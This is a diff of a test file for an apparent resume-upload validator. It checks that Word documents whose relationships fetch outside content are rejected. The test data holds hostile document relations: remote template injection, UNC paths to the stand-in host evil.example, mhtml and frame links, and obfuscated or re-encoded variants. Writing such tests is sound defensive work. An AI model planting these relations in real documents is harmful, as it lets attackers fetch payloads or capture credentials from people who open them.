@@ -166,12 +166,15 @@ describe("a resume", () => {
       relation("attachedTemplate", evil),
       relation("attachedTemplate", "file:///\\\\evil.example\\t.dotm"),
       relation("oleObject", `mhtml:${evil}!x`),
+      relation("image", "file:///\\\\evil.example\\x.png"),
       relation("frame", evil),
       relation("ole&#79;bject", `${evil}?Type='/hyperlink'`),
       relation("frame", evil).replaceAll('"', "'"),
       Buffer.from(relation("subDocument", evil), "utf16le"),
     ];
     for (const rels of fetching) assert.equal(await check(word(rels)), messages.resumeUnsafe);
+    const shouted = docx("cv.docx", { ...wordParts, "word/_rels/settings.xml.RELS": fetching[0]! });
+    assert.equal(await check(shouted), messages.resumeUnsafe);
     const usual = [
       relation("hyperlink", "https://www.linkedin.com/in/ada"),
       relation("image", "https://county.example/logo.png"),
